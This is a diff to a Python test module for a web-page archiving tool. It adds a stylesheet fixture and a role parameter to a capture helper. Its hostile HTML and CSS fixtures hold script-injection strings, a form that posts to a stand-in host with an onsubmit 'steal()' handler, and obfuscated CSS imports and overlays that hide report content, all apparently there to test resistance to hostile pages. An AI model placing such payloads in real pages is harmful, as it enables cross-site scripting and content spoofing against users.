@@ -40,6 +40,7 @@ LIUWA = "http://liuwa.sample.localhost/gk/nb.html"
 LIUWA_AGAIN = "http://liuwa.sample.localhost/tzgg/nb.html"
 REVISED = "http://baiyan.sample.localhost/zfxxgk/t20230128_2.html"
 HOSTILE = "http://hostile.sample.localhost/x.html?a=1&b=%22%3E%3Cscript%3E"
+HOSTILE_SHEET = "http://hostile.sample.localhost/css/a.css"
 EVIL = "\"><script>alert('x')</script><b>县"
 
 PROSE = (
@@ -128,6 +129,7 @@ def build(data: Path) -> Built:
         for url, body, reading in (*plain(), *hostile(), *revised()):
             keys[url] = capture(archive, url, body)
             readings.record(archive, keys[url], reading)
+        keys[HOSTILE_SHEET] = capture(archive, HOSTILE_SHEET, HOSTILE_CSS, "requisite")
         settle(archive)
         sql = "select n.url as url, r.key as key from renditions n join reports r on r.id = n.report_id"
         found = {row["url"]: row["key"] for row in archive.rows(sql)}
@@ -171,13 +173,13 @@ def revised() -> Iterator[Made]:
         yield REVISED, body, replace(reading, sections=(section,), content_sha256=raw * 64)
 
 
-def capture(archive: Archive, url: str, body: bytes) -> str:
-    """Store a body as a believed report capture; gives its key."""
+def capture(archive: Archive, url: str, body: bytes, role: str = "report") -> str:
+    """Store a body as a believed capture; gives its key."""
     headers = [("Content-Type", "text/html; charset=utf-8")]
     stored = captures.store(archive, Response(url, archive.clock(), 200, "OK", headers, body))
     with archive.transaction():
         row = captures.insert(archive, stored, run_id=None, portal_id=None, grade="ok", why=None,
-                              role="report", context=Context(url=url))  # fmt: skip
+                              role=role, context=Context(url=url))  # fmt: skip
     return str(archive.value("select key from captures where id = ?", row))
 
 
@@ -201,7 +203,7 @@ WHOLE: dict[str, tuple[str, int | Decimal | None, State]] = {
 
 HOSTILE_HEAD = """<script>document.title='owned'</script>
 <meta http-equiv="refresh" content="0;url=http://evil.example/">
-<link rel="stylesheet" href="http://evil.example/a.css">
+<link rel="stylesheet" href="http://evil.example/a.css"><link rel="stylesheet" href="css/a.css">
 <style>body{position:fixed;top:-200px} h1{display:none}</style><base href="http://evil.example/">
 <form action="http://evil.example/" onsubmit="steal()"><input name="q"><button>go</button>
 <p onclick="alert(1)" style="position:fixed;top:0;background:url(http://evil.example/b.png);color:red">hold</p>
@@ -211,3 +213,11 @@ HOSTILE_HEAD = """<script>document.title='owned'</script>
 <iframe src="http://evil.example/f"></iframe><object data="x"></object><o:p>word</o:p>"""
 HOSTILE_TAIL = """</form><xmp><script>alert(7)</script></xmp>
 <div id="nianbao-cell" style="display:none">trap</div><plaintext>"""
+HOSTILE_CSS = rb"""@import "http://evil.example/i.css"; @\69mport url(http://evil.example/j.css);
+@font-face { font-family: x; src: url(http://evil.example/f.woff) }
+body::before { content: ""; position: fixed; inset: -900px 0 auto; height: 3000px; z-index: 2147483647;
+  background: red u\72l("http://evil.example/c.png") }
+.bar, iframe, table, html body > table td { display: none !important } td { visibility: hidden; opacity: 0 }
+[id^=nianbao] { position: fixed; left: -9999px; outline: 0 !important; transform: scale(0) }
+p { background-image: image-set("http://evil.example/s.png" 1x); color: rgb(1, 2, 3) }
+</style><script>document.title = 'owned'</script>"""
